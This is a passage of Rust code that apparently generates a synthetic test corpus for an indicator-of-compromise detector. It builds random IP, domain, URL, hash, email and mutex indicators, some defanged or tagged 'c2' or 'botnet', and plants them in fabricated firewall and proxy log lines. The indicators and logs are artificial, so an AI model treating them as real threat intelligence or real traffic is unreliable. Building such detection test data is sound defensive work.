            0 => {
                e.push_str(pick(&mut rng, FIRST_NAMES));
                e.push('.');
                e.push_str(pick(&mut rng, LAST_NAMES));
            }
            1 => {
                push_words(&mut rng, &mut e, 2..4);
                let _ = write!(e, "{}", rng.gen_range(1..100));
            }
            _ => e.push_str(pick(
                &mut rng,
                &[
                    "billing", "invoice", "support", "hr", "noreply", "payroll", "admin",
                ],
            )),
        }
        e.push('@');
        fresh_domain(&mut rng, &idx, &mut tmp, 10);
        e.push_str(&tmp);
        if idx.emails.insert(fp(&e)) {
            set.emails.push(e);
        }
    }

    let mut exact_hosts: Vec<String> = Vec::new();
    while set.urls.len() + set.url_prefixes.len() < n_url + n_url_prefix {
        let prefix_mode = set.url_prefixes.len() < n_url_prefix;
        let mut u = String::from(if rng.gen_ratio(7, 10) {
            "http://"
        } else {
            "https://"
        });
        let host;
        if !prefix_mode && !exact_hosts.is_empty() && rng.gen_ratio(1, 5) {
            host = exact_hosts[rng.gen_range(0..exact_hosts.len())].clone();
            u.push_str(&host);
        } else if rng.gen_ratio(1, 10) {
            let ip = loop {
                let ip: u32 = rng.r#gen();
                if !overlaps_reserved(ip, 32) && !idx.v4_hit(ip) {
                    break ip;
                }
            };
            host = Ipv4Addr::from(ip).to_string();
            u.push_str(&host);
            if rng.gen_ratio(1, 3) {
                let _ = write!(u, ":{}", [8080, 8000, 8443, 4443][rng.gen_range(0..4)]);
            }
        } else {
            fresh_domain(&mut rng, &idx, &mut tmp, 30);
            host = tmp.clone();
            u.push_str(&host);
        }
        gen_path(&mut rng, &mut u, prefix_mode);
        if !idx.urls.insert(fp(&u)) {
            continue;
        }
        idx.url_hosts.insert(fp(&host));
        if prefix_mode {
            set.url_prefixes.push(u);
        } else {
            exact_hosts.push(host);
            set.urls.push(u);
        }
    }

    while set.hashes.len() < n_hash {
        let (len, which) = match rng.gen_range(0..20) {
            0..=7 => (32, 0),
            8..=12 => (40, 1),
            _ => (64, 2),
        };
        let mut h = String::with_capacity(len);
        push_hex(&mut rng, &mut h, len);
        if idx.hashes.insert(fp(&h)) {
            set.hash_by_len[which].push(set.hashes.len() as u32);
            set.hashes.push(h);
        }
    }

    for i in 0..n_str {
        let mut s = String::new();
        if i % 2 == 0 {
            match rng.gen_range(0..3) {
                0 => {
                    s.push_str("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; ");
                    push_alnum(&mut rng, &mut s, 8);
                    s.push(')');
                }
                1 => {
                    let mut w = String::new();
                    push_word(&mut rng, &mut w, 2);
                    s.push_str(&w[..1].to_ascii_uppercase());
                    s.push_str(&w[1..]);
                    let _ = write!(
                        s,
                        "Client/{}.{} (",
                        rng.gen_range(1..10),
                        rng.gen_range(0..30)
                    );
                    push_alnum(&mut rng, &mut s, 10);
                    s.push(')');
                }
                _ => {
                    s.push_str("Mozilla/5.0 (Windows NT 6.1; WOW64; ");
                    push_alnum(&mut rng, &mut s, 6);
                    s.push_str(") like Gecko");
                }
            }
        } else {
            let mut w = String::new();
            push_word(&mut rng, &mut w, 2);
            s.push_str(&w[..1].to_ascii_uppercase());
            s.push_str(&w[1..]);
            s.push_str(pick(&mut rng, &["Mutex_", "_sync_", "Lock", "_MTX_"]));
            push_alnum(&mut rng, &mut s, 10);
        }
        if i % 4 < 2 {
            set.strings.push(s);
        } else {
            set.istrings.push(s);
        }
    }

    // The plain list.
    let mut lines: Vec<String> = Vec::with_capacity(n + 16);
    let mut messy = 0;
    let mut add = |rng: &mut ChaCha8Rng, kind: Kind, v: String, lines: &mut Vec<String>| {
        if rng.gen_ratio(1, 50)
            && let Some(m) = messy_form(rng, kind, &v)
        {
            messy += 1;
            lines.push(m);
            return;
        }
        lines.push(v);
    };
    for ip in &set.ipv4 {
        add(&mut rng, Kind::Ipv4, ip.to_string(), &mut lines);
    }
    for (net, len) in &set.cidr4 {
        add(&mut rng, Kind::Cidr4, format!("{net}/{len}"), &mut lines);
    }
    for ip in &set.ipv6 {
        add(&mut rng, Kind::Ipv6, ip.to_string(), &mut lines);
    }
    for (net, len) in &set.cidr6 {
        add(&mut rng, Kind::Cidr6, format!("{net}/{len}"), &mut lines);
    }
    for d in &set.domains {
        add(&mut rng, Kind::Domain, d.clone(), &mut lines);
    }
    for u in &set.urls {
        add(&mut rng, Kind::Url, u.clone(), &mut lines);
    }
    for h in &set.hashes {
        add(&mut rng, Kind::Md5, h.clone(), &mut lines);
    }
    for e in &set.emails {
        add(&mut rng, Kind::Email, e.clone(), &mut lines);
    }
    lines.extend(
        set.domains_exact
            .iter()
            .map(|d| format!("domain-exact:{d}")),
    );
    lines.extend(set.url_prefixes.iter().map(|u| format!("url-prefix:{u}")));
    lines.extend(set.strings.iter().map(|s| format!("string:{s}")));
    lines.extend(set.istrings.iter().map(|s| format!("istring:{s}")));
    for i in (1..lines.len()).rev() {
        lines.swap(i, rng.gen_range(0..=i));
    }
    let mut plain = String::with_capacity(lines.iter().map(|l| l.len() + 1).sum::<usize>() + 256);
    let _ = writeln!(
        plain,
        "# iocd-corpus indicator list: seed={} indicators={}",
        spec.seed, n
    );
    plain.push_str("# plain list: one indicator per line, type inferred; '#' starts a comment\n");
    for (i, l) in lines.iter().enumerate() {
        if i % 10_000 == 9_999 {
            let _ = writeln!(plain, "\n# --- block {} ---", i / 10_000 + 1);
        }
        plain.push_str(l);
        plain.push('\n');
    }
    set.plain = plain;
    set.messy = messy;
    set.idx = idx;
    set
}

/// `v` written the way messy feeds write it, or `None` to keep it clean.
fn messy_form(rng: &mut ChaCha8Rng, kind: Kind, v: &str) -> Option<String> {
    let defang_last_dot = |v: &str| {
        let i = v.rfind('.')?;
        Some(format!("{}[.]{}", &v[..i], &v[i + 1..]))
    };
    let comment = |rng: &mut ChaCha8Rng, v: &str| {
        format!(
            "{v} # {}",
            ["c2", "seen 2024-02-11", "phishing kit", "botnet", "scanner"][rng.gen_range(0..5)]
        )
    };
    let r = rng.gen_range(0..6);
    Some(match kind {
        Kind::Ipv4 => match r {
            0 => defang_last_dot(v)?,
            1 => v.replace('.', "[.]"),
            2 => format!("{v}:{}", [80, 443, 8080, 4444, 8443][rng.gen_range(0..5)]),
            3 => format!("{v}   "),
            _ => comment(rng, v),
        },
        Kind::Cidr4 | Kind::Cidr6 => match r {
            0..=2 => format!("{v} "),
            _ => comment(rng, v),
        },
        Kind::Ipv6 => match r {
            0..=1 => v.to_ascii_uppercase(),
            2 => format!("{v}\t"),
            _ => comment(rng, v),
        },
        Kind::Domain => match r {
            0 => defang_last_dot(v)?,
            1 => v.to_ascii_uppercase(),
            2 => format!("{v}."),
            3 => format!("{v}  "),
            _ => comment(rng, v),
        },
        Kind::Url => {
            let (scheme, rest) = v.split_once("://")?;
            match r {
                0 => format!("hxxp{}://{rest}", &scheme[4..]),
                1 => format!("hxxp{}[:]//{rest}", &scheme[4..]),
                2 => {
                    let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
                    let host = match defang_last_dot(host) {
                        Some(h)
                            if !host
                                .bytes()
                                .all(|b| b.is_ascii_digit() || b == b'.' || b == b':') =>
                        {
                            h
                        }
                        _ => host.to_string(),
                    };
                    format!("{scheme}://{host}{path}")
                }
                3 => {
                    let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
                    format!(
                        "{}://{}{path}",
                        scheme.to_ascii_uppercase(),
                        host.to_ascii_uppercase()
                    )
                }
                4 => format!("{v} "),
                _ => comment(rng, v),
            }
        }
        Kind::Md5 | Kind::Sha1 | Kind::Sha256 => match r {
            0..=2 => v.to_ascii_uppercase(),
            3 => format!("{v} "),
            _ => comment(rng, v),
        },
        Kind::Email => match r {
            0..=2 => format!("{v} "),
            _ => comment(rng, v),
        },
        _ => return None,
    })
}

// ---------------------------------------------------------------------------------------
// The corpus.

type Slot = u16;
const IP4: Slot = 1;
const IP6: Slot = 2;
const DOM: Slot = 4;
const URL: Slot = 8;
const MD5: Slot = 16;
const SHA1: Slot = 32;
const SHA256: Slot = 64;
const EMAIL: Slot = 128;
const UA: Slot = 256;
const MUTEX: Slot = 512;
const HASHES: Slot = MD5 | SHA1 | SHA256;

/// Formats: name, weight, slots a planted token can go into.
const FORMATS: &[(&str, u32, Slot)] = &[
    ("iptables", 13, IP4 | IP6),
    ("cisco-asa", 9, IP4),
    ("fortigate", 9, IP4 | DOM),
    ("zeek", 11, IP4 | IP6 | DOM | URL | UA | HASHES),
    ("suricata", 12, IP4 | IP6 | DOM | UA | HASHES),
    ("apache", 14, IP4 | IP6 | URL | UA),
    ("squid", 10, IP4 | DOM | URL),
    ("dns", 11, IP4 | IP6 | DOM),
    ("sysmon", 8, IP4 | IP6 | DOM | URL | HASHES | MUTEX),
    ("postfix", 10, IP4 | IP6 | DOM | EMAIL),
];

/// Format names, in the order of [`Truth::formats`].
pub fn format_names() -> impl Iterator<Item = &'static str> {
    FORMATS.iter().map(|f| f.0)
}

struct Ov {
    slot: Slot,
    skip: u32,
    text: String,
    used: Option<Range<usize>>,
}

#[derive(Clone, Copy, Default)]
struct Tm {
    secs: u64,
    ms: u32,
    y: u32,
    mo: u32,
    d: u32,
    h: u32,
    mi: u32,
    s: u32,
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

fn civil_from_days(z: i64) -> (u32, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + (m <= 2) as i64;
    (y as u32, m as u32, d as u32)
}

struct Gen<'a> {
    rng: ChaCha8Rng,
    set: &'a IndicatorSet,
    buf: Vec<u8>,
    tmp: String,
    ms: u64,
    tm: Tm,
    ov: Option<Ov>,
    wan: [u32; 4],
    uas: Vec<&'static str>,
    plant_kinds: Vec<(Kind, u32)>,
}

fn push_u64(buf: &mut Vec<u8>, mut n: u64) {
    let mut tmp = [0u8; 20];
    let mut i = 20;
    loop {
        i -= 1;
        tmp[i] = b'0' + (n % 10) as u8;
        n /= 10;
        if n == 0 {
            break;
        }
    }
    buf.extend_from_slice(&tmp[i..]);
}

fn push_ip4(buf: &mut Vec<u8>, ip: u32) {
    for k in 0..4 {
        if k > 0 {
            buf.push(b'.');
        }
        push_u64(buf, ((ip >> (24 - 8 * k)) & 255) as u64);
    }
}

impl<'a> Gen<'a> {
    fn new(spec: &CorpusSpec, set: &'a IndicatorSet) -> Self {
        let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
        rng.set_stream(2);
        let uas = USER_AGENTS
            .iter()
            .copied()
            .filter(|ua| !dotted_quads(ua).any(|ip| set.idx.v4_hit(ip)))
            .collect();
        let weights: &[(Kind, u32)] = &[
            (Kind::Ipv4, 30),
            (Kind::Cidr4, 10),
            (Kind::Ipv6, 5),
            (Kind::Cidr6, 3),
            (Kind::Domain, 20),
            (Kind::DomainExact, 3),
            (Kind::Url, 9),
            (Kind::UrlPrefix, 2),
            (Kind::Md5, 3),
            (Kind::Sha1, 3),
            (Kind::Sha256, 3),
            (Kind::Email, 4),
            (Kind::Str, 2),
            (Kind::IStr, 2),
        ];
        let plant_kinds = weights
            .iter()
            .copied()
            .filter(|&(k, _)| set.count(k) > 0)
            .collect();
        let mut g = Gen {
            rng,
            set,
            buf: Vec::with_capacity(2048),
            tmp: String::with_capacity(256),
            ms: 1_709_596_800_000 + (spec.seed % 1000) * 86_400_000,
            tm: Tm::default(),
            ov: None,
            wan: [0; 4],
            uas,
            plant_kinds,
        };
        for i in 0..4 {
            g.wan[i] = g.bg_ip4();
        }
        g
    }

    // --- small writers ---

    fn s(&mut self, x: &str) {
        self.buf.extend_from_slice(x.as_bytes());
    }

    fn n(&mut self, x: u64) {
        push_u64(&mut self.buf, x);
    }

    fn nr(&mut self, lo: u64, hi: u64) {
        let v = self.rng.gen_range(lo..hi);
        self.n(v);
    }

    fn pad(&mut self, v: u64, width: usize) {
        let start = self.buf.len();
        push_u64(&mut self.buf, v);
        let len = self.buf.len() - start;
        if len < width {
            let z = width - len;
            self.buf.splice(start..start, std::iter::repeat_n(b'0', z));
        }
    }

    fn padr(&mut self, range: Range<u64>, width: usize) {
        let v = self.rng.gen_range(range);
        self.pad(v, width);
    }

    fn one<T: ?Sized>(&mut self, xs: &[&'static T]) -> &'static T {
        xs[self.rng.gen_range(0..xs.len())]
    }

    fn p(&mut self, xs: &[&'static str]) {
        let x = self.one(xs);
        self.s(x);
    }

    fn hex(&mut self, n: usize, upper: bool) {
        let table: &[u8; 16] = if upper {
            b"0123456789ABCDEF"
        } else {
            b"0123456789abcdef"
        };
        let mut bits = 0u64;
        for i in 0..n {
            if i % 16 == 0 {
                bits = self.rng.r#gen();
            }
            self.buf.push(table[(bits & 15) as usize]);
            bits >>= 4;
        }
    }

    fn again(&mut self, r: Range<usize>) {
        self.buf.extend_from_within(r);
    }

    fn port(&mut self) {
        self.nr(1024, 65535);
    }

    fn guid(&mut self) {
        self.s("{");
        self.hex(8, false);
        self.s("-");
        self.hex(4, false);
        self.s("-");
        self.hex(4, false);
        self.s("-");
        self.hex(4, false);
        self.s("-");
        self.hex(12, false);
        self.s("}");
    }

    // --- time ---

    fn tick(&mut self) {
        self.ms += self.rng.gen_range(0..7);
        let secs = self.ms / 1000;
        if secs != self.tm.secs || self.tm.y == 0 {
            let (y, mo, d) = civil_from_days((secs / 86_400) as i64);
            let sod = (secs % 86_400) as u32;
            self.tm = Tm {
                secs,
                ms: 0,
                y,
                mo,
                d,
                h: sod / 3600,
                mi: sod / 60 % 60,
                s: sod % 60,
            };
        }
        self.tm.ms = (self.ms % 1000) as u32;
    }

    fn hms(&mut self) {
        let t = self.tm;
        self.pad(t.h as u64, 2);
        self.s(":");
        self.pad(t.mi as u64, 2);
        self.s(":");
        self.pad(t.s as u64, 2);
    }

    fn ymd(&mut self) {
        let t = self.tm;
        self.n(t.y as u64);
        self.s("-");
        self.pad(t.mo as u64, 2);
        self.s("-");
        self.pad(t.d as u64, 2);
    }

    /// `Mar  5 10:42:31`
    fn ts_syslog(&mut self) {
        let t = self.tm;
        self.s(MONTHS[t.mo as usize - 1]);
        self.s(if t.d < 10 { "  " } else { " " });
        self.n(t.d as u64);
        self.s(" ");
        self.hms();
    }

    /// `2024-03-05T10:42:31.123456+0000`
    fn ts_iso_us(&mut self) {
        self.ymd();
        self.s("T");
        self.hms();
        self.s(".");
        let us = self.tm.ms as u64 * 1000 + self.rng.gen_range(0..1000);
        self.pad(us, 6);
        self.s("+0000");
    }

    /// `2024-03-05 10:42:31.123`
    fn ts_sql(&mut self) {
        self.ymd();
        self.s(" ");
        self.hms();
        self.s(".");
        self.pad(self.tm.ms as u64, 3);
    }

    /// `05/Mar/2024:10:42:31 +0000`
    fn ts_apache(&mut self) {
        let t = self.tm;
        self.pad(t.d as u64, 2);
        self.s("/");
        self.s(MONTHS[t.mo as usize - 1]);
        self.s("/");
        self.n(t.y as u64);
        self.s(":");
        self.hms();
        self.s(" +0000");
    }

    /// `1709635351.123` (`frac` = 3) or `1709635351.123456` (`frac` = 6)
    fn ts_epoch(&mut self, frac: usize) {
        self.n(self.tm.secs);
        self.s(".");
        if frac == 3 {
            self.pad(self.tm.ms as u64, 3);
        } else {
            let us = self.tm.ms as u64 * 1000 + self.rng.gen_range(0..1000);
            self.pad(us, 6);
        }
    }

    // --- background values (never a hit) ---

    fn bg_ip4(&mut self) -> u32 {
        loop {
            let ip = if self.rng.gen_ratio(1, 4) {
                let (net, len) = POPULAR4[self.rng.gen_range(0..POPULAR4.len())];
                net | (self.rng.r#gen::<u32>() & !mask4(len))
            } else {
                self.rng.r#gen()
            };
            if !overlaps_reserved(ip, 32) && !self.set.idx.v4_hit(ip) {
                return ip;
            }
        }
    }

    fn bg_ip4_int(&mut self) -> u32 {
        let r: u32 = self.rng.r#gen();
        match r % 10 {
            0..=5 => 0x0a00_0000 | ((r >> 4) & 0x1f_ffff) | 1,
            6..=8 => 0xc0a8_0000 | ((r >> 4) & 0x0fff) | 1,
            _ => 0xac10_0000 | ((r >> 4) & 0x3_ffff) | 1,
        }
    }

    fn bg_ip6(&mut self) -> u128 {
        const POOLS: &[u128] = &[
            0x2a00_1450_4001_0000 << 64,
            0x2606_4700_0000_0000 << 64,
            0x2620_01ec_0000_0000 << 64,
            0x2a03_2880_f000_0000 << 64,
            0x2001_4860_4860_0000 << 64,
        ];
        loop {
            let ip = if self.rng.gen_ratio(1, 2) {
                POOLS[self.rng.gen_range(0..POOLS.len())]
                    | ((self.rng.r#gen::<u16>() as u128) << 64)
                    | self.rng.gen_range(1..0x1_0000u128)
            } else {
                ioc_v6(&mut self.rng)
            };
            if !self.set.idx.v6_hit(ip) {
                return ip;
            }
        }
    }

    fn bg_ip6_int(&mut self) -> u128 {
        let low = self.rng.r#gen::<u64>() as u128;
        if self.rng.gen_ratio(1, 2) {
            (0xfe80u128 << 112) | low
        } else {
            (0xfd12_3456_789a_0001u128 << 64) | (low & 0xffff)
        }
    }

    /// A background domain into `self.tmp`.
    fn bg_domain_tmp(&mut self) {
        loop {
            if self.rng.gen_ratio(9, 20) {
                self.tmp.clear();
                let d = self.one(BENIGN_DOMAINS);
                self.tmp.push_str(d);
            } else {
                gen_domain(&mut self.rng, &mut self.tmp, BG_TLDS, 40);
            }
            if !self.set.idx.domain_near(&self.tmp) {
                return;
            }
        }
    }

    /// A background URL into `self.tmp`.
    fn bg_url_tmp(&mut self) {
        loop {
            let https = self.rng.gen_ratio(1, 2);
            if self.rng.gen_ratio(1, 20) {
                let ip = self.bg_ip4();
                self.tmp.clear();
                let _ = write!(self.tmp, "http://{}", Ipv4Addr::from(ip));
            } else {
                self.bg_domain_tmp();
                if self.set.idx.url_hosts.contains(&fp(&self.tmp)) {
                    continue;
                }
                self.tmp
                    .insert_str(0, if https { "https://" } else { "http://" });
            }
            gen_path(&mut self.rng, &mut self.tmp, false);
            return;
        }
    }

    fn bg_email_tmp(&mut self) {
        loop {
            let mut e = String::with_capacity(40);
            if self.rng.gen_ratio(2, 3) {
                e.push_str(self.one(FIRST_NAMES));
                e.push('.');
                e.push_str(self.one(LAST_NAMES));
            } else {
                push_word(&mut self.rng, &mut e, 2);
                let _ = write!(e, "{}", self.rng.gen_range(1..1000));
            }
            e.push('@');
            let d = match self.rng.gen_range(0..6) {
                0 => "gmail.com",
                1 => "outlook.com",
                2 => "yahoo.com",
                3 => "northwind-traders.com",
                _ => {
                    self.bg_domain_tmp();
                    ""
                }
            };
            if d.is_empty() {
                e.push_str(&self.tmp);
            } else {
                e.push_str(d);
            }
            if !self.set.idx.emails.contains(&fp(&e)) {
                self.tmp = e;
                return;
            }
        }
    }

    // --- slots: a background value, or the planted token ---

    fn pending(&self) -> Option<Slot> {
        match &self.ov {
            Some(o) if o.used.is_none() => Some(o.slot),
            _ => None,
        }
    }

    fn take_ov(&mut self, slot: Slot) -> bool {
        match &mut self.ov {
            Some(o) if o.slot == slot && o.used.is_none() => {
                if o.skip == 0 {
                    let start = self.buf.len();
                    self.buf.extend_from_slice(o.text.as_bytes());
                    o.used = Some(start..self.buf.len());
                    true
                } else {
                    o.skip -= 1;
                    false
                }
            }
            _ => false,
        }
    }

    /// Picks one of `variants` (weight, slots); a line that must carry a planted token
    /// picks among the variants that have a slot for it.
    fn sub(&mut self, variants: &[(u32, Slot)]) -> usize {
        let want = self.pending();
        let ok = |m: Slot| want.is_none_or(|w| m & w != 0);
        let any = variants.iter().any(|&(_, m)| ok(m));
        let total: u32 = variants
            .iter()
            .filter(|&&(_, m)| !any || ok(m))
            .map(|v| v.0)
            .sum();
        let mut r = self.rng.gen_range(0..total);
        for (i, &(w, m)) in variants.iter().enumerate() {
            if any && !ok(m) {
                continue;
            }
            if r < w {
                return i;
            }
            r -= w;
        }
        0
    }

    /// An address of the family `v6`: an external one (which may be a planted indicator) or
    /// an internal one.
    fn addr(&mut self, v6: bool, external: bool) -> Range<usize> {
        match (v6, external) {
            (false, true) => self.ip4(),
            (false, false) => self.ip4_int(),
            (true, true) => self.ip6(),
            (true, false) => self.ip6_int(),
        }
    }

    fn ip4(&mut self) -> Range<usize> {
        let start = self.buf.len();
        if !self.take_ov(IP4) {
            let ip = self.bg_ip4();
            push_ip4(&mut self.buf, ip);
        }
        start..self.buf.len()
    }

    fn ip4_int(&mut self) -> Range<usize> {
        let start = self.buf.len();
        let ip = self.bg_ip4_int();
        push_ip4(&mut self.buf, ip);
        start..self.buf.len()
    }

    fn ip6(&mut self) -> Range<usize> {
        let start = self.buf.len();
        if !self.take_ov(IP6) {
            let ip = self.bg_ip6();
            let _ = write!(VecWriter(&mut self.buf), "{}", Ipv6Addr::from(ip));
        }
        start..self.buf.len()
    }

    fn ip6_int(&mut self) -> Range<usize> {
        let start = self.buf.len();
        let ip = self.bg_ip6_int();
        let _ = write!(VecWriter(&mut self.buf), "{}", Ipv6Addr::from(ip));
        start..self.buf.len()
    }

    /// Writes the planted value for `slot` if one is due, else a background value that
    /// `fill` leaves in `self.tmp`.
    fn token_via_tmp(&mut self, slot: Slot, fill: fn(&mut Self)) -> Range<usize> {
        let start = self.buf.len();
        if !self.take_ov(slot) {
            fill(self);
            self.buf.extend_from_slice(self.tmp.as_bytes());
        }
        start..self.buf.len()
    }

    fn domain(&mut self) -> Range<usize> {
        self.token_via_tmp(DOM, Self::bg_domain_tmp)
    }

    fn url(&mut self) -> Range<usize> {
        self.token_via_tmp(URL, Self::bg_url_tmp)
    }

    fn email(&mut self) -> Range<usize> {
        self.token_via_tmp(EMAIL, Self::bg_email_tmp)
    }

    fn hash(&mut self, slot: Slot, upper: bool) -> Range<usize> {
        let start = self.buf.len();
        if self.take_ov(slot) {
            if upper {
                self.buf[start..].make_ascii_uppercase();
            }
        } else {
            let len = match slot {
                MD5 => 32,
                SHA1 => 40,
                _ => 64,
            };
            loop {
                self.buf.truncate(start);
                self.hex(len, false);
                let s = std::str::from_utf8(&self.buf[start..]).unwrap();
                if !self.set.idx.hashes.contains(&fp(s)) {
                    break;
                }
            }
            if upper {
                self.buf[start..].make_ascii_uppercase();
            }
        }
        start..self.buf.len()
    }

    fn ua(&mut self) -> Range<usize> {
        let start = self.buf.len();
        if !self.take_ov(UA) {
            let ua = self.uas[self.rng.gen_range(0..self.uas.len())];
            self.s(ua);
        }
        start..self.buf.len()
    }

    fn mutex(&mut self) -> Range<usize> {
        let start = self.buf.len();
        if !self.take_ov(MUTEX) {
            self.p(&[
                "WilStaging_",
                "SessionSync_",
                "OneDriveMtx_",
                "ChromeUpdate_",
            ]);
            self.nr(1, 100_000);
        }
        start..self.buf.len()
    }

    /// One of the firewall's public addresses.
    fn wan(&mut self) {
        let ip = self.wan[self.rng.gen_range(0..4)];
        push_ip4(&mut self.buf, ip);
    }

    // --- formats ---

    fn render(&mut self, f: usize) {
        self.buf.clear();
        self.tick();
        match f {
            0 => self.f_iptables(),
            1 => self.f_asa(),
            2 => self.f_fortigate(),
            3 => self.f_zeek(),
            4 => self.f_suricata(),
            5 => self.f_apache(),
            6 => self.f_squid(),
            7 => self.f_dns(),
            8 => self.f_sysmon(),
            _ => self.f_postfix(),
        }
    }

    fn pick_format(&mut self, slot: Option<Slot>) -> usize {
        let ok = |m: Slot| slot.is_none_or(|s| m & s != 0);
        let total: u32 = FORMATS.iter().filter(|f| ok(f.2)).map(|f| f.1).sum();
        let mut r = self.rng.gen_range(0..total);
        for (i, f) in FORMATS.iter().enumerate() {
            if !ok(f.2) {
                continue;
            }
            if r < f.1 {
                return i;
            }
            r -= f.1;
        }
        0
    }

    fn f_iptables(&mut self) {
        self.ts_syslog();
        self.s(" ");
        self.p(FW_HOSTS);
        self.s(" kernel: [");
        self.nr(100_000, 9_999_999);
        self.s(".");
        let us = self.rng.gen_range(0..1_000_000);
        self.pad(us, 6);
        self.s("] ");
        self.p(&[
            "IPTABLES-DROP: ",
            "[UFW BLOCK] ",
            "FW-IN-DROP ",
            "[UFW ALLOW] ",
            "INPUT-REJECT ",
            "FORWARD-ACCEPT ",
        ]);
        let v6 = self.sub(&[(9, IP4), (1, IP6)]) == 1;
        let inbound = self.rng.gen_ratio(3, 5);
        self.s(if inbound {
            "IN=eth0 OUT= MAC="
        } else {
            "IN=eth1 OUT=eth0 MAC="
        });
        for i in 0..12 {
            if i > 0 {
                self.s(":");
            }
            self.hex(2, false);
        }
        self.s(if v6 { ":86:dd SRC=" } else { ":08:00 SRC=" });
        match (v6, inbound) {
            (false, true) => {
                self.ip4();
                self.s(" DST=");
                self.ip4_int();
            }
            (false, false) => {
                self.ip4_int();
                self.s(" DST=");
                self.ip4();
            }
            (true, true) => {
                self.ip6();
                self.s(" DST=");
                self.ip6_int();
            }
            (true, false) => {
                self.ip6_int();
                self.s(" DST=");
                self.ip6();
            }
        }
        self.s(" LEN=");
        self.nr(40, 1500);
        if v6 {
            self.s(" TC=0 HOPLIMIT=");
            self.nr(40, 64);
            self.s(" FLOWLBL=");
            self.nr(0, 1_048_576);
        } else {
            self.s(" TOS=0x00 PREC=0x00 TTL=");
            self.nr(30, 128);
            self.s(" ID=");
            self.nr(0, 65536);
            self.s(" DF");
        }
        if self.rng.gen_ratio(4, 5) {
            self.s(" PROTO=TCP SPT=");
            self.port();
            self.s(" DPT=");
            self.p(&["22", "443", "80", "3389", "445", "23", "8080", "5900"]);
            self.s(" WINDOW=");
            self.nr(1024, 65535);
            self.s(" RES=0x00 SYN URGP=0");
        } else {
            self.s(" PROTO=UDP SPT=");
            self.port();
            self.s(" DPT=");
            self.p(&["53", "123", "161", "1900", "5060"]);
            self.s(" LEN=");
            self.nr(20, 512);
        }
    }

    fn f_asa(&mut self) {
        self.ts_syslog();
        self.s(" ");
        self.p(ASA_HOSTS);
        self.s(" : %ASA-");
        match self.sub(&[(4, IP4), (3, IP4), (3, IP4), (1, IP4), (1, IP4)]) {
            0 => {
                self.s("6-302013: Built inbound TCP connection ");
                self.nr(1_000_000, 999_999_999);
                self.s(" for outside:");
                let r = self.ip4();
                self.s("/");
                let pr = self.buf.len();
                self.port();
                let pr = pr..self.buf.len();
                self.s(" (");
                self.again(r);
                self.s("/");
                self.again(pr);
                self.s(") to inside:");
                let r = self.ip4_int();
                self.s("/");
                self.p(&["443", "80", "22", "25"]);
                self.s(" (");
                self.again(r);
                self.s("/443)");
            }
            1 => {
                self.s("6-302014: Teardown TCP connection ");
                self.nr(1_000_000, 999_999_999);
                self.s(" for outside:");
                self.ip4();
                self.s("/");
                self.p(&["443", "80", "8443"]);
                self.s(" to inside:");
                self.ip4_int();
                self.s("/");
                self.port();
                self.s(" duration 0:");
                self.padr(0..60, 2);
                self.s(":");
                self.padr(0..60, 2);
                self.s(" bytes ");
                self.nr(40, 5_000_000);
                self.p(&[" TCP FINs", " TCP Reset-I", " TCP Reset-O"]);
            }
            2 => {
                self.s("4-106023: Deny ");
                self.p(&["tcp", "udp"]);
                self.s(" src outside:");
                self.ip4();
                self.s("/");
                self.port();
                self.s(" dst inside:");
                self.ip4_int();
                self.s("/");
                self.p(&["22", "23", "445", "3389", "1433"]);
                self.s(" by access-group \"outside_access_in\" [0x");
                self.hex(8, false);
                self.s(", 0x0]");
            }
            3 => {
                self.s("2-106001: Inbound TCP connection denied from ");
                self.ip4();
                self.s("/");
                self.port();
                self.s(" to ");
                self.ip4_int();
                self.s("/");
                self.p(&["22", "23", "445", "3389"]);
                self.s(" flags SYN  on interface outside");
            }
            _ => {
                self.s("6-302015: Built outbound UDP connection ");
                self.nr(1_000_000, 999_999_999);
                self.s(" for outside:");
                let r = self.ip4();
                self.s("/53 (");
                self.again(r);
                self.s("/53) to inside:");
                let r = self.ip4_int();
                self.s("/");
                let pr = self.buf.len();
                self.port();
                let pr = pr..self.buf.len();
                self.s(" (");
                self.again(r);
                self.s("/");
                self.again(pr);
                self.s(")");
            }
        }
    }

    fn f_fortigate(&mut self) {
        self.s("date=");
        self.ymd();
        self.s(" time=");
        self.hms();
        self.s(" devname=\"FGT-EDGE-01\" devid=\"FG100FTK19001234\" eventtime=");
        self.n(self.tm.secs);
        let ns = self.tm.ms as u64 * 1_000_000 + self.rng.gen_range(0..1_000_000);
        self.pad(ns, 9);
        self.s(" tz=\"+0000\" ");
        if self.sub(&[(4, IP4), (1, DOM | IP4)]) == 0 {
            self.s("logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=");
            let inbound = self.rng.gen_ratio(1, 4);
            if inbound {
                self.ip4();
            } else {
                self.ip4_int();
            }
            self.s(" srcport=");
            self.port();
            self.s(" srcintf=\"port2\" srcintfrole=\"lan\" dstip=");
            if inbound {
                self.ip4_int();
            } else {
                self.ip4();
            }
            self.s(" dstport=");
            self.p(&["443", "80", "53", "22", "3389", "8080"]);
            self.s(" dstintf=\"wan1\" dstintfrole=\"wan\" sessionid=");
            self.nr(1_000_000, 99_999_999);
            self.s(" proto=6 action=\"");
            self.p(&["close", "accept", "deny", "timeout"]);
            self.s("\" policyid=");
            self.nr(1, 40);
            self.s(" policytype=\"policy\" service=\"");
            self.p(&["HTTPS", "HTTP", "DNS", "SSH", "RDP"]);
            self.s("\" dstcountry=\"");
            self.p(COUNTRIES);
            self.s("\" srccountry=\"Reserved\" trandisp=\"snat\" transip=");
            self.wan();
            self.s(" transport=");
            self.port();
            self.s(" duration=");
            self.nr(0, 600);
            self.s(" sentbyte=");
            self.nr(40, 2_000_000);
            self.s(" rcvdbyte=");
            self.nr(40, 20_000_000);
